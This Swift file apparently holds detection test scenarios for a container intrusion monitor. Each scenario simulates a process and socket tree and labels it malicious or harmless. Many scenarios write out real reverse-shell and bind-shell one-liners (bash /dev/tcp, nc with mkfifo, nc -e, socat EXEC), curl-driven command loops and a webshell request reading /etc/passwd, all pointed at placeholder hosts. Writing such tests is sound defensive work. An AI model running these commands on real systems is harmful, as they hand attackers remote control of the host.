import Model

extension Scenario {
  static let reverseShells: [Scenario] = [
    .alert("reverse-shell.stdio", .critical, "bash on /dev/tcp") { s in
      let entry = s.run("nginx")
      let bash = s.run("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", below: entry)
      let socket = s.connect(bash)
      s.run("bash", "-i", below: bash, streams: [socket, socket, socket])
    },
    .alert("reverse-shell.stdio", .critical, "a renamed shell") { s in
      let entry = s.run("nginx")
      let socket = s.connect(entry)
      s.run("bash", below: entry, streams: [socket, socket, socket], program: "/tmp/.x/kworker") { $0.isDropped = true }
    },
    .alert("reverse-shell.stdio", .critical, "busybox sh over UDP") { s in
      let entry = s.run("nginx")
      let socket = s.datagram(entry)
      s.run("busybox", "sh", below: entry, streams: [socket, socket, socket])
    },
    .alert("reverse-shell.stdio", .critical, "a shell only reads from a connection") { s in
      let entry = s.run("nginx")
      let socket = s.connect(entry)
      s.run("sh", below: entry, streams: [socket, Stream.null, Stream.null])
    },
    .alert("reverse-shell.stdio", .high, "a read loop whose programs write to the socket") { s in
      let entry = s.run("nginx")
      let bash = s.run("bash", "-c", "exec 5<>/dev/tcp/h/1; while read l <&5; do $l >&5 2>&5; done", below: entry)
      let socket = s.connect(bash)
      s.run("ls", "-la", below: bash, streams: [Stream.null, socket, socket])
    },
    .alert("reverse-shell.stdio", .high, "a script on an outbound connection, without a shell") { s in
      let entry = s.run("nginx")
      let socket = s.connect(entry)
      s.run("python3", below: entry, streams: [socket, socket, socket])
    },
    .alert("reverse-shell.stdio", .critical, "a bind shell") { s in
      let entry = s.run("nginx")
      let bind = s.run("nc", "-l", "-p", "9001", "-e", "/bin/sh", below: entry)
      s.listen(bind, 9001)
      let socket = s.accept(9001)
      s.run("sh", below: bind, streams: [socket, socket, socket])
    },
    .harmless("reverse-shell.stdio", "a CGI script that is a shell script", atMost: .medium) { s in
      let server = s.run("thttpd", "-p", "80")
      s.listen(server, 80)
      let socket = s.accept(80)
      s.run("sh", "/var/www/cgi-bin/status.sh", below: server, streams: [socket, socket, socket])
    },
    .harmless("reverse-shell.stdio", "a program behind inetd", atMost: .low) { s in
      let server = s.run("inetd")
      s.listen(server, 21)
      let socket = s.accept(21)
      s.run("/usr/sbin/in.ftpd", below: server, streams: [socket, socket, socket])
    },
    .harmless("reverse-shell.stdio", "output that is sent to a collector") { s in
      let entry = s.run("cron")
      let socket = s.connect(entry, "10.0.0.9", 2003)
      s.run("/usr/bin/collect", below: entry, streams: [Stream.null, socket, Stream.null])
    },
    .harmless("reverse-shell.stdio", "docker exec with a terminal") { s in
      let terminal = s.terminal()
      s.run("bash", streams: [terminal, terminal, terminal])
    },
    .alert("reverse-shell.pipeline", .critical, "nc and a FIFO") { s in
      let sh = s.run("sh", "-c", "mkfifo /tmp/f; nc h 1 </tmp/f | sh >/tmp/f 2>&1", below: s.run("nginx"))
      let (fifo, pipe) = (s.pipe(), s.pipe())
      let nc = s.run("nc", "203.0.113.66", "4444", below: sh, streams: [fifo, pipe, Stream.null])
      s.connect(nc)
      s.run("sh", below: sh, streams: [pipe, fifo, fifo])
    },
    .alert("reverse-shell.pipeline", .critical, "openssl connects after the shell began") { s in
      let sh = s.run("sh", "-c", "…", below: s.run("nginx"))
      let (fifo, pipe) = (s.pipe(), s.pipe())
      s.run("sh", "-i", below: sh, streams: [fifo, pipe, pipe])
      let client = s.run("openssl", "s_client", "-quiet", below: sh, streams: [pipe, fifo, Stream.null])
      s.connect(client, port443, 443)
    },
    .alert("reverse-shell.pipeline", .critical, "telnet on two ports") { s in
      let sh = s.run("sh", "-c", "…", below: s.run("nginx"))
      let (first, second) = (s.pipe(), s.pipe())
      let one = s.run("telnet", "h", "1", below: sh, streams: [Stream.null, first, Stream.null])
      let two = s.run("telnet", "h", "2", below: sh, streams: [second, Stream.null, Stream.null])
      s.connect(one)
      s.connect(two, "203.0.113.66", 4445)
      s.run("sh", below: sh, streams: [first, second, second])
    },
    .alert("reverse-shell.pipeline", .critical, "with a decoder in between") { s in
      let sh = s.run("sh", "-c", "…", below: s.run("nginx"))
      let (fifo, first, second) = (s.pipe(), s.pipe(), s.pipe())
      let nc = s.run("nc", "h", "1", below: sh, streams: [fifo, first, Stream.null])
      s.connect(nc)
      s.run("base64", "-d", below: sh, streams: [first, second, Stream.null])
      s.run("sh", below: sh, streams: [second, fifo, fifo])
    },
    .alert("reverse-shell.pipeline", .high, "nc feeds a shell, no way back") { s in
      let sh = s.run("sh", "-c", "nc h 1 | sh", below: s.run("nginx"))
      let pipe = s.pipe()
      let nc = s.run("nc", "h", "1", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.connect(nc)
      s.run("sh", below: sh, streams: [pipe, Stream.null, Stream.null])
    },
    .harmless("reverse-shell.pipeline", "curl | sh") { s in
      let sh = s.run("sh", "-c", "curl -sSL https://get.example | sh", below: s.run("entrypoint.sh"))
      let pipe = s.pipe()
      let curl = s.run("curl", "-sSL", "https://get.example", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.connect(curl, port443, 443)
      s.run("sh", below: sh, streams: [pipe, Stream.null, Stream.null])
    },
    .harmless("reverse-shell.pipeline", "a pipeline without a network") { s in
      let sh = s.run("sh", "-c", "cat steps | sh | tee log", below: s.run("entrypoint.sh"))
      let (one, two) = (s.pipe(), s.pipe())
      s.run("cat", "steps", below: sh, streams: [Stream.null, one, Stream.null])
      s.run("sh", below: sh, streams: [one, two, two])
      s.run("tee", "log", below: sh, streams: [two, Stream.null, Stream.null])
    },
    .alert("shell.piped-download", .medium, "curl | sh") { s in
      let sh = s.run("sh", "-c", "curl https://get.example | sh", below: s.run("entrypoint.sh"))
      let pipe = s.pipe()
      s.run("curl", "https://get.example", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.run("sh", below: sh, streams: [pipe, Stream.null, Stream.null])
    },
    .alert("shell.piped-download", .medium, "wget | python3, the downloader begins last") { s in
      let sh = s.run("sh", "-c", "…", below: s.run("entrypoint.sh"))
      let pipe = s.pipe()
      s.run("python3", below: sh, streams: [pipe, Stream.null, Stream.null])
      s.run("wget", "-qO-", "http://h/x.py", below: sh, streams: [Stream.null, pipe, Stream.null])
    },
    .harmless("shell.piped-download", "curl | tar") { s in
      let sh = s.run("sh", "-c", "curl https://h/a.tgz | tar xz", below: s.run("entrypoint.sh"))
      let pipe = s.pipe()
      s.run("curl", "https://h/a.tgz", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.run("tar", "xz", below: sh, streams: [pipe, Stream.null, Stream.null])
    },
  ]

  private static let port443 = "203.0.113.66"

  static let relays: [Scenario] = [
    .alert("reverse-shell.relay", .critical, "socat with a terminal") { s in
      let socat = s.run("socat", "TCP:203.0.113.66:4444", "EXEC:bash,pty", below: s.run("nginx"))
      s.connect(socat)
      let terminal = s.terminal()
      s.run("bash", below: socat, streams: [terminal, terminal, terminal])
    },
    .alert("reverse-shell.relay", .critical, "python one-liner with pipes") { s in
      let python = s.run("python3", "-c", "import socket,subprocess", below: s.run("nginx"))
      s.connect(python)
      let (one, two) = (s.pipe(), s.pipe())
      s.run("sh", below: python, streams: [one, two, two])
    },
    .alert("reverse-shell.relay", .critical, "a pair of unix sockets, compiled program") { s in
      let relay = s.run("/opt/app/relay", below: s.run("nginx"))
      s.connect(relay)
      let pair = s.unixSocket()
      s.run("sh", below: relay, streams: [pair, pair, pair])
    },
    .alert("reverse-shell.relay", .critical, "it connects after the shell began") { s in
      let relay = s.run("/opt/app/relay", below: s.run("nginx"))
      let (one, two) = (s.pipe(), s.pipe())
      s.run("sh", below: relay, streams: [one, two, two])
      s.connect(relay)
    },
    .alert("reverse-shell.relay", .critical, "php with an interactive shell on pipes") { s in
      let php = s.run("php", "/var/www/html/upload/x.php", below: s.run("nginx"))
      s.connect(php)
      let (one, two) = (s.pipe(), s.pipe())
      s.run("sh", "-i", below: php, streams: [one, two, two])
    },
    .alert("reverse-shell.relay", .critical, "bound: ncat hands out a shell") { s in
      let ncat = s.run("ncat", "-l", "9001", "-e", "/bin/bash", below: s.run("nginx"))
      s.listen(ncat, 9001)
      s.accept(9001)
      let (one, two) = (s.pipe(), s.pipe())
      s.run("bash", below: ncat, streams: [one, two, two])
    },
    .harmless("reverse-shell.relay", "an agent of the image feeds bash from a pipe", atMost: .medium) { s in
      let agent = s.run("/opt/agent/bin/agent", "--server", "ci.example")
      s.connect(agent, "10.0.0.5", 443)
      let (one, two) = (s.pipe(), s.pipe())
      s.run("bash", below: agent, streams: [one, two, two])
    },
    .harmless("reverse-shell.relay", "sshd in a container") { s in
      let sshd = s.run("/usr/sbin/sshd", "-D")
      s.listen(sshd, 22)
      s.accept(22)
      let terminal = s.terminal()
      s.run(
        "-bash", below: s.run("/usr/sbin/sshd", "-R", below: sshd), streams: [terminal, terminal, terminal],
        program: "/bin/bash")
    },
    .harmless("reverse-shell.relay", "docker exec -it") { s in
      let server = s.run("nginx")
      s.listen(server, 80)
      s.accept(80)
      let terminal = s.terminal()
      s.run("bash", streams: [terminal, terminal, terminal])
    },
    .harmless("reverse-shell.relay", "a web terminal", atMost: .medium) { s in
      let server = s.run("/usr/local/bin/jupyter-lab")
      s.listen(server, 8888)
      s.accept(8888)
      let terminal = s.terminal()
      s.run("bash", below: server, streams: [terminal, terminal, terminal])
    },
  ]

  static let commands: [Scenario] = [
    .alert("reverse-shell.command-relay", .critical, "a webshell") { s in
      let php = s.run("php-fpm")
      s.listen(php, 9000)
      s.receive(php, s.accept(9000), "GET /x.php?cmd=cat%20/etc/passwd HTTP/1.1")
      s.run("sh", "-c", "cat /etc/passwd", below: php)
    },
    .alert("reverse-shell.command-relay", .critical, "Base64") { s in
      let app = s.run("python3", "/app/x.py")
      s.receive(app, s.connect(app), "aWQ7dW5hbWUgLWE=\n")
      s.run("sh", "-c", "id;uname -a", below: app)
    },
    .alert("reverse-shell.command-relay", .critical, "hexadecimal") { s in
      let app = s.run("python3", "/app/x.py")
      s.receive(app, s.connect(app), "756e616d65202d61")
      s.run("sh", "-c", "uname -a", below: app)
    },
    .alert("reverse-shell.command-relay", .critical, "gzip") { s in
      let app = s.run("python3", "/app/x.py")
      s.receive(app, s.connect(app), gzippedUname)
      s.run("sh", "-c", "uname -a", below: app)
    },
    .alert("reverse-shell.command-relay", .critical, "one short word, a whole line") { s in
      let app = s.run("perl", "/app/x.pl")
      s.receive(app, s.connect(app), "ls\n")
      s.run("ls", below: app)
    },
    .alert("reverse-shell.command-relay", .critical, "the relay puts redirections around it") { s in
      let app = s.run("node", "/app/x.js")
      s.receive(app, s.connect(app), "ps aux\n")
      s.run("sh", "-c", "cd /srv && ps aux >/tmp/o 2>&1; cat /tmp/o", below: app)
    },
    .alert("reverse-shell.command-relay", .critical, "nc feeds a loop by a pipe") { s in
      let sh = s.run("bash", "-c", "nc h 1 | while read c; do sh -c \"$c\"; done")
      let pipe = s.pipe()
      let nc = s.run("nc", "h", "1", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.receive(nc, s.connect(nc), "whoami\n")
      s.run("sh", "-c", "whoami", below: sh, streams: [pipe, Stream.null, Stream.null])
    },
    .alert("reverse-shell.command-relay", .critical, "a loop asks with curl what to do") { s in
      let loop = s.run(
        "bash", "-c", "while :; do c=$(curl -s h/job); sh -c \"$c\" | curl --data-binary @- h/done; done")
      let curl = s.run("curl", "-s", "http://h/job", below: loop, streams: [Stream.null, s.pipe(), Stream.null])
      s.receive(curl, s.connect(curl), "HTTP/1.0 200 OK\r\n\r\nuname -a\n")
      s.exit(curl)
      s.run("sh", "-c", "uname -a", below: loop, streams: [Stream.null, s.pipe(), Stream.null])
    },
    .alert("reverse-shell.command-relay", .critical, "the same through a filter") { s in
      let loop = s.run("sh", "-c", "sh -c \"$(curl -s h/job | tr -d x)\"")
      let pipe = s.pipe()
      let curl = s.run("curl", "-s", "http://h/job", below: loop, streams: [Stream.null, pipe, Stream.null])
      let filter = s.run("tr", "-d", "x", below: loop, streams: [pipe, s.pipe(), Stream.null])
      s.receive(curl, s.connect(curl), "HTTP/1.0 200 OK\r\n\r\ncat /etc/hostname\n")
      s.exit(curl)
      s.exit(filter)
      s.run("sh", "-c", "cat /etc/hostname", below: loop)
    },
    .harmless("reverse-shell.command-relay", "curl | sh, when curl has ended") { s in
      let outer = s.run("bash", "-c", "curl h | sh")
      let pipe = s.pipe()
      let curl = s.run("curl", "h", below: outer, streams: [Stream.null, pipe, Stream.null])
      let sh = s.run("sh", below: outer, streams: [pipe, s.pipe(), s.pipe()])
      s.receive(curl, s.connect(curl), "#!/bin/sh\nuname -s\nmkdir -p /opt/tool\n")
      s.exit(curl)
      s.run("uname", "-s", below: sh, streams: [pipe, s.pipe(), s.pipe()])
      s.run("mkdir", "-p", "/opt/tool", below: sh, streams: [pipe, s.pipe(), s.pipe()])
    },
    .harmless("reverse-shell.command-relay", "a script asks for a version") { s in
      let script = s.run("bash", "/opt/install.sh")
      let curl = s.run("curl", "-s", "https://h/version", below: script, streams: [Stream.null, s.pipe(), Stream.null])
      s.receive(curl, s.connect(curl), "HTTP/1.1 200 OK\r\n\r\n1.27.3\n")
      s.exit(curl)
      s.run("tar", "xf", "tool-1.27.3.tgz", below: script)
    },
    .harmless("reverse-shell.command-relay", "a CGI script is called by its path") { s in
      let server = s.run("thttpd")
      s.listen(server, 80)
      s.receive(server, s.accept(80), "GET /cgi-bin/report.sh?day=today HTTP/1.1")
      s.run("sh", "/var/www/cgi-bin/report.sh", below: server)
    },
    .harmless("reverse-shell.command-relay", "a short word inside a longer one") { s in
      let app = s.run("python3", "/app/server.py")
      s.listen(app, 80)
      s.receive(app, s.accept(80), "GET /idle?width=4 HTTP/1.1")
      s.run("id", below: app)
    },
    .harmless("reverse-shell.command-relay", "curl | sh runs what came") { s in
      let sh = s.run("sh", "-c", "curl h | sh")
      let pipe = s.pipe()
      let curl = s.run("curl", "h", below: sh, streams: [Stream.null, pipe, Stream.null])
      s.receive(curl, s.connect(curl, "203.0.113.66", 80), "#!/bin/sh\napt-get update\n")
      let fed = s.run("sh", below: sh, streams: [pipe, Stream.null, Stream.null])
      s.run("apt-get", "update", below: fed)
    },
    .harmless("reverse-shell.command-relay", "long ago") { s in
      let app = s.run("python3", "/app/server.py")
      s.receive(app, s.connect(app), "uname -a")
      s.pass(seconds: 60)
      s.run("sh", "-c", "uname -a", below: app)
    },
    .alert("reverse-shell.implant", .high, "perl one-liner, encrypted") { s in
      let perl = s.run("perl", "-MIO::Socket::SSL", "-e", "…", below: s.run("nginx"))
      s.connect(perl, "203.0.113.66", 443)
      s.run("sh", "-c", "id", below: perl)
    },
    .alert("reverse-shell.implant", .high, "a dropped program asks who it is") { s in
      let implant = s.run("/tmp/.cache/agent", below: s.run("nginx")) { $0.isDropped = true }
      s.connect(implant, "203.0.113.66", 443)
      s.run("whoami", below: implant)
    },
    .harmless("reverse-shell.implant", "a small server on a command line", atMost: .medium) { s in
      let node = s.run("node", "-e", "http.createServer((q, r) => exec('uptime')).listen(80)")
      s.listen(node, 80)
      s.accept(80)
      s.run("sh", "-c", "uptime", below: node)
    },
    .alert("reverse-shell.implant", .high, "a server without a file") { s in
      let hidden = s.run("x", program: "/memfd:x") { $0.isNameless = true }
      s.listen(hidden, 80)
      s.accept(80)
      s.run("sh", "-c", "uptime", below: hidden)
    },
    .harmless("reverse-shell.implant", "a one-liner that waits for a database") { s in
      let wait = s.run("python3", "-c", "import socket; socket.create_connection(('db', 5432))")
      s.close(s.connect(wait, "10.0.0.9", 5432))
      s.pass(seconds: 30)
      s.run("sh", "-c", "exec gunicorn app", below: wait)
    },
    .harmless("reverse-shell.implant", "a service of the image runs a command") { s in
      let app = s.run("node", "/app/server.js")
      s.connect(app, "10.0.0.9", 5432)
      s.run("sh", "-c", "convert a.png b.png", below: app)
    },
    .alert("reverse-shell.staged", .high, "a one-liner writes what came and runs it") { s in
      let python = s.run("python3", "-c", "…", below: s.run("nginx"))
      s.receive(python, s.connect(python, "203.0.113.66", 443), [0x17, 3, 3, 0, 40])
      s.run("sh", "/tmp/.s", below: python)
    },
    .alert("reverse-shell.staged", .high, "a request makes a service run a temporary script") { s in
      let php = s.run("php-fpm")
      s.listen(php, 9000)
      s.receive(php, s.accept(9000), "POST /upload.php")
      s.run("sh", "/tmp/job", below: php)
    },
    .harmless("reverse-shell.staged", "a build agent's step", atMost: .medium) { s in
      let agent = s.run("/opt/runner/runner")
      s.receive(agent, s.connect(agent, "10.0.0.5", 443), [0x17, 3, 3])
      s.run("sh", "-xe", "/tmp/step1.sh", below: agent)
    },
    .harmless("reverse-shell.staged", "a temporary script, nothing came") { s in
      s.run("sh", "/tmp/step1.sh", below: s.run("/opt/runner/runner"))
    },
  ]

  /// `printf 'uname -a' | gzip -n`.
  private static let gzippedUname: [UInt8] = [
    0x1F, 0x8B, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x02, 0x03, 0x2B, 0xCD, 0x4B, 0xCC, 0x4D, 0x55,
    0xD0, 0x4D, 0x04, 0x00, 0xD6, 0x52, 0x3B, 0xD6, 0x08, 0x00, 0x00, 0x00,
  ]
}
